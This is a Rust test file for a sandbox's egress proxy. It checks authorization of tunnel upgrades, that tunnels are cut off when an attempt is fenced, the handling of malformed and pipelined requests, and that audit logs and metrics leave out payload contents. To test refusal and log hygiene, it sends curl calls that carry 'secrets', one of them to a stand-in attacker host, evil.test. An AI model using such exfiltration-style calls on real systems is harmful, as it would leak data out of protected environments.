//! Who may have egress, for how long, and what is told of it.

use crate::common::{OPERATOR, PILOT, UID, World};
use crate::support::{Scene, rest, upgrade};
use oarmaster_protocol::admin::TaskBudget;
use oarmaster_protocol::read::AuditAct;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

#[tokio::test]
async fn only_the_session_of_a_live_attempt_with_egress_has_it() {
    let scene = Scene::start().await;
    let (world, session) = (&scene.world, scene.session.as_str());
    for (token, session, expected) in [
        (PILOT, session, 101),
        (PILOT, "another", 409),
        ("unknown", session, 401),
        (world.user(), session, 403),
        (OPERATOR, session, 401),
    ] {
        let (status, _) = upgrade(&world.data, token, session).await;
        assert_eq!(status, expected, "{token} {session}");
    }
    // Without the upgrade it is a request like others.
    let url = format!("{}/task/v1/egress", world.data);
    let request = world.http.get(url).bearer_auth(PILOT);
    let response = request
        .header("oarmaster-session", session)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 400);
}

#[tokio::test]
async fn a_task_without_domains_has_none() {
    let world = World::start().await;
    let claim = world.task(TaskBudget::default()).await;
    let (status, mut stream) = upgrade(&world.data, PILOT, &claim.session).await;
    assert_eq!(status, 403);
    stream.shutdown().await.unwrap();
    let told = rest(&mut stream).await;
    assert!(
        told.contains("the sandbox of this Task has no egress"),
        "{told}"
    );
}

#[tokio::test]
async fn a_connection_ends_with_its_attempt() {
    let scene = Scene::start().await;
    let world = &scene.world;
    let (_, mut stream) = upgrade(&world.data, PILOT, &scene.session).await;
    stream
        .write_all(b"CONNECT registry.test:443 HTTP/1.1\r\n\r\n")
        .await
        .unwrap();
    let mut heard = [0; 12];
    stream.read_exact(&mut heard).await.unwrap();
    assert_eq!(&heard, b"HTTP/1.1 200");
    let url = format!("{}/admin/v1/attempts/{UID}/1/fence", world.admin);
    let fence = world.http.put(url).bearer_auth(OPERATOR);
    let fence = fence.json(&serde_json::json!({"reason": "cancelled"}));
    let response = fence.send().await.unwrap();
    assert!(
        response.status().is_success(),
        "{}",
        response.text().await.unwrap()
    );
    let begin = Instant::now();
    rest(&mut stream).await;
    assert!(begin.elapsed() < Duration::from_secs(30));
    let (status, _) = upgrade(&world.data, PILOT, &scene.session).await;
    assert_eq!(status, 409);
}

#[tokio::test]
async fn what_is_no_request_to_a_proxy_is_answered_and_ended() {
    let scene = Scene::start().await;
    for (said, expected) in [
        (
            "GET / HTTP/1.1\r\nhost: registry.test\r\n\r\n",
            "HTTP/1.1 403",
        ),
        (
            "GET /task/v1/assignment HTTP/1.1\r\nhost: gateway\r\n\r\n",
            "HTTP/1.1 403",
        ),
        ("\u{16}\u{3}\u{1}not http\r\n\r\n", "HTTP/1.1 400"),
        (
            "CONNECT registry.test:443 HTTP/1.1\r\n\r\nSSH-2.0-OpenSSH_9.2\r\n",
            "HTTP/1.1 200",
        ),
        // Two in one: the first is answered, the second never read.
        (
            "GET http://registry.test/a HTTP/1.1\r\nhost: x\r\n\r\nGET http://registry.test/b HTTP/1.1\r\nhost: x\r\n\r\n",
            "HTTP/1.1 404",
        ),
    ] {
        let (_, mut stream) = upgrade(&scene.world.data, PILOT, &scene.session).await;
        stream.write_all(said.as_bytes()).await.unwrap();
        let heard = rest(&mut stream).await;
        assert!(heard.starts_with(expected), "{said:?}: {heard:?}");
        assert_eq!(heard.matches("HTTP/1.1").count(), 1, "{said:?}: {heard:?}");
    }
    // The host that is asked for is the one that was judged, whatever the header says.
    assert_eq!(scene.seen.requests(), ["registry.test /a"]);
}

#[tokio::test]
async fn the_audit_and_metrics_tell_where_and_how_much_and_never_what() {
    let scene = Scene::start().await;
    std::fs::write(scene.path("www/spoken"), "a spoken secret").unwrap();
    let (code, said) = scene
        .curl(&["-d", "a told secret", "https://registry.test/spoken"])
        .await;
    assert_eq!(code, Some(0), "{said}");
    scene.curl(&["https://a-written-secret.evil.test/"]).await;
    let world = &scene.world;
    world
        .until(|gateway| {
            let text = gateway.metrics.text().unwrap();
            text.contains("egress_connections_total{outcome=\"done\"} 1")
                && text.contains("egress_connections_total{outcome=\"refused\"} 1")
        })
        .await;
    let (audit, lines) = world.audit().await;
    let of = |act: AuditAct| {
        lines
            .iter()
            .filter(move |line| line.act == act)
            .collect::<Vec<_>>()
    };
    let begun = of(AuditAct::Egress);
    let told: Vec<_> = begun
        .iter()
        .map(|line| {
            (
                line.allowed,
                line.who.as_str(),
                line.task.as_str(),
                line.object.as_str(),
                line.reason.as_str(),
            )
        })
        .collect();
    assert_eq!(
        told,
        [
            (true, "alice@acme", UID, "registry.test", ""),
            (
                false,
                "alice@acme",
                UID,
                "no domain of the sandbox",
                "domain"
            ),
        ]
    );
    let ended = of(AuditAct::EgressEnd);
    let object = ended[0].object.strip_prefix("registry.test sent ").unwrap();
    let (sent, received) = object.split_once(" received ").unwrap();
    // Two TLS handshakes' worth and a request.
    assert!((300..20_000).contains(&sent.parse().unwrap()), "{object}");
    assert!(
        (300..20_000).contains(&received.parse().unwrap()),
        "{object}"
    );
    assert_eq!(ended.len(), 1);
    let metrics = world.metrics().await;
    assert!(
        metrics.contains("egress_bytes_total{direction=\"received\"} "),
        "{metrics}"
    );
    for text in [audit, metrics] {
        assert!(!text.contains("secret"), "{text}");
    }
}
